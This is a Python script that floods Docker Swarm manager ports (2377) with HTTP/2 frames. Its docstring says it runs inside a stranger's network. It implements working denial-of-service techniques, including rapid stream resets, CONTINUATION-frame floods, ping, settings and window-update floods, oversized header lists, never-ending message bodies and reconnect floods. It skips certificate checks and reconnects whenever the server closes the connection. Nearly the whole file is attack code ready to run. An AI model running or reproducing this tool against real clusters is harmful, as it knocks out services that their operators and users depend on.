"""Sends floods of HTTP/2 to port 2377. It is run as a program, inside a stranger's network.

    python floods.py HOST KIND SECONDS

It sends frames of one kind as fast as the other side accepts them, and connects again whenever it is sent away. Its
last line is JSON: the numbers of bytes and connections, and the HTTP/2 errors with which the other side closed them.
"""

import json
import select
import socket
import ssl
import sys
import time
from collections import Counter
from collections.abc import Callable

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    ExtensionFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CHUNK = 128 * 1024
CALL = [
    (":method", "POST"),
    (":scheme", "https"),
    (":path", "/docker.swarmkit.v1.CA/GetRootCACertificate"),
    (":authority", "manager"),
    ("te", "trailers"),
    ("content-type", "application/grpc"),
]
# Headers that HPACK never puts into its table, so that the same bytes always mean the same.
BLOCK = Encoder().encode([(name, value, True) for name, value in CALL], huffman=False)


def headers(stream: int, *flags: str, block: bytes = BLOCK) -> bytes:
    return HeadersFrame(stream, data=block, flags=list(flags)).serialize()


def resets(stream: int) -> bytes:
    """Open a call and reset it."""
    return headers(stream, "END_HEADERS") + RstStreamFrame(stream, error_code=8).serialize()


def calls(stream: int) -> bytes:
    """Make a whole call, and do not wait for the answer."""
    body = DataFrame(stream, data=b"\0\0\0\0\0", flags=["END_STREAM"]).serialize()
    return headers(stream, "END_HEADERS") + body


def settings(_stream: int) -> bytes:
    return SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65_535}).serialize()


def pings(_stream: int) -> bytes:
    return PingFrame(0, opaque_data=b"12345678").serialize()


def priorities(stream: int) -> bytes:
    return PriorityFrame(stream, depends_on=0, stream_weight=1, exclusive=False).serialize()


def windows(_stream: int) -> bytes:
    return WindowUpdateFrame(0, window_increment=1).serialize()


def unknown(_stream: int) -> bytes:
    return ExtensionFrame(0xAA, 0, flag_byte=0, body=b"x").serialize()


def continuations(stream: int) -> bytes:
    """Begin headers and continue them with empty frames, as many as HTTP/2 libraries allow."""
    first = headers(stream, block=BLOCK)
    return first + b"".join(ContinuationFrame(stream).serialize() for _ in range(50)) + _end_of_headers(stream)


def _end_of_headers(stream: int) -> bytes:
    return ContinuationFrame(stream, flags=["END_HEADERS"]).serialize() + RstStreamFrame(stream).serialize()


def long_headers(stream: int) -> bytes:
    """Send the longest lists of headers that fit into 64 KiB."""
    block = Encoder().encode([*CALL, *((f"x-{number}", "y" * 4000, True) for number in range(14))], huffman=False)
    pieces = [block[start : start + 16_000] for start in range(0, len(block), 16_000)]
    first = headers(stream, block=pieces[0])
    middle = b"".join(ContinuationFrame(stream, data=piece).serialize() for piece in pieces[1:])
    return first + middle + _end_of_headers(stream)


def empty_data(stream: int) -> bytes:
    """Send a call's body in empty pieces."""
    return headers(stream, "END_HEADERS") + DataFrame(stream).serialize() * 200 + RstStreamFrame(stream).serialize()


def tiny_data(stream: int) -> bytes:
    """Begin a message of 4 MiB, in pieces of one byte, and never end it."""
    begin = DataFrame(stream, data=b"\0\0\x40\0\0").serialize()
    return headers(stream, "END_HEADERS") + begin + DataFrame(stream, data=b"x").serialize() * 500


def bodies(stream: int) -> bytes:
    """Begin a message of 4 MiB and never end it."""
    begin = DataFrame(stream, data=b"\0\0\x40\0\0").serialize()
    return headers(stream, "END_HEADERS") + begin + DataFrame(stream, data=b"x" * 16_000).serialize() * 4


def made_resets(stream: int) -> bytes:
    """Open a call and make the other side reset it, by a window that is too large."""
    return headers(stream, "END_HEADERS") + WindowUpdateFrame(stream, window_increment=0x7FFFFFFF).serialize()


def connections(_stream: int) -> bytes:
    """Send nothing: only connect, again and again."""
    return b""


KINDS: dict[str, Callable[[int], bytes]] = {
    each.__name__: each
    for each in (
        resets, calls, settings, pings, priorities, windows, unknown, continuations, long_headers, empty_data,
        tiny_data, bodies, made_resets, connections,
    )
}  # fmt: skip


class Peer:
    """One connection: sends whatever the other side accepts, and reads its answers."""

    def __init__(self, host: str, make: Callable[[int], bytes], context: ssl.SSLContext) -> None:
        self.sock = context.wrap_socket(socket.create_connection((host, 2377), 10))
        self.sock.settimeout(10)
        self.sock.sendall(PREFACE + SettingsFrame(0).serialize())
        self.sock.setblocking(False)
        self._make = make
        self._stream = -1
        self._waiting = b""
        self._received = bytearray()
        self.sent = 0
        self.goodbye: int | None = None

    def turn(self) -> bool:
        """Send and read what is possible. Returns whether the connection is still open."""
        readable, writable, _ = select.select([self.sock], [self.sock], [], 0.2)
        try:
            if readable or self.sock.pending():
                self._read()
            if writable:
                self._write()
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return True
        except OSError:
            return False
        return True

    def _write(self) -> None:
        while len(self._waiting) < CHUNK:
            self._stream += 2
            self._waiting += self._make(self._stream)
        # What TLS did not accept must be given to it again, unchanged. So it is kept in pieces.
        count = self.sock.send(self._waiting[:CHUNK])
        self.sent += count
        self._waiting = self._waiting[count:]

    def _read(self) -> None:
        data = self.sock.recv(CHUNK)
        if not data:
            raise OSError("the other side went")
        self._received += data
        while len(self._received) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(bytes(self._received[:9])))
            if len(self._received) < 9 + length:
                return
            frame.parse_body(memoryview(bytes(self._received[9 : 9 + length])))
            del self._received[: 9 + length]
            if isinstance(frame, GoAwayFrame):
                self.goodbye = frame.error_code


def tls() -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context


def main(host: str, kind: str, seconds: float) -> None:
    """Flood for this many seconds, and print the result."""
    context, make, end = tls(), KINDS[kind], time.monotonic() + seconds
    goodbyes: Counter[str] = Counter()
    sent = made = failed = 0
    while time.monotonic() < end:
        try:
            peer = Peer(host, make, context)
        except OSError:
            failed += 1
            time.sleep(0.01)
            continue
        made += 1
        while kind != "connections" and time.monotonic() < end and peer.turn():
            pass
        sent += peer.sent
        goodbyes[str(peer.goodbye)] += 1
        peer.sock.close()
    print(json.dumps({"bytes": sent, "connections": made, "failed": failed, "goodbyes": goodbyes}))  # noqa: T201


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], float(sys.argv[3]))
